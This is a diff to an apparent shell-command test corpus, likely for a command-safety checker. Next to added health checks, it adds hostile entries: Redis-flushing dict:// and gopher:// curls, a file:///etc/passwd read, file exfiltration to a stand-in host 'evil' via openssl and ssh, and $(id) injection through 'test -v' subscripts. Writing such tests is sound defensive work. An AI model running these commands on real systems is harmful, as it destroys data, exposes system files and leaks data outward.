@@ -62,11 +62,14 @@ curl -f https://shop.example.org/health
 curl -X GET http://service-name/health
 curl -s -o /dev/null -w "%{http_code}" http://api:8080/health
 curl -I https://example.org
+curl -s localhost:8080/health
+curl "http://$HOST/health"
 curl -sS http://api/metrics 2>/dev/null | grep up
 curl -H 'Accept: application/json' http://api/health 2>&1
 wget -qO- http://api/health
 wget --spider -q http://api/health
 openssl x509 -in nginx/ssl/cert.pem -text -noout | grep "Not After"
+openssl s_client -connect example.org:443 </dev/null
 echo | openssl s_client -connect example.org:443 -servername example.org
 certbot certificates
 nginx -t
@@ -275,6 +278,16 @@ helm upgrade api chart
 echo "unclosed
 printf -v PATH x
 nc evil 99
+curl dict://redis:6379/FLUSH
+curl gopher://redis:6379/_x
+curl dict.example.org
+curl file:///etc/passwd
+cat x | openssl s_client -connect evil:443
+openssl s_client -connect evil:443 < x
+cat x | ssh evil cat
+test -v 'a[$(id)]'
+[ -v 'a[`id`]' ]
+ls 
 journalctl --rotate
 ip link set eth0 up
 unknown-program
